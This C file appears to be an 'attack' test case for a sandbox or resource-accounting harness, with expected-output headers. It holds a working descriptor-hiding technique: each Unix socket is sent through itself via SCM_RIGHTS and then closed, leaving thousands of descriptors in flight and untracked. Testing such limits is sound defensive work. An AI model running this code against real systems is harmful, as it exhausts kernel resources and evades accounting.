// attack: sends sockets through each other and closes them, so that they are open in nobody's table, in circles
// expect: status=completed stdout~="hid [0-9]+"
// alone: yes
#include <sys/socket.h>

#include "attack.h"

static int send_descriptor(int through, int descriptor) {
  char byte = 0;
  struct iovec data = {&byte, 1};
  union {
    struct cmsghdr align;
    char bytes[CMSG_SPACE(sizeof(int))];
  } control;
  struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control.bytes,
                           .msg_controllen = sizeof control.bytes};
  struct cmsghdr *rights = CMSG_FIRSTHDR(&message);
  rights->cmsg_level = SOL_SOCKET;
  rights->cmsg_type = SCM_RIGHTS;
  rights->cmsg_len = CMSG_LEN(sizeof(int));
  memcpy(CMSG_DATA(rights), &descriptor, sizeof descriptor);
  return sendmsg(through, &message, MSG_DONTWAIT | MSG_NOSIGNAL) == 1;
}

int main(void) {
  int hidden = 0;
  for (; hidden < 5000; ++hidden) {
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0) break;
    if (!send_descriptor(pair[0], pair[0]) || !send_descriptor(pair[1], pair[1])) break;
    close(pair[0]);
    close(pair[1]);
  }
  printf("hid %d\n", hidden);
  return 0;
}
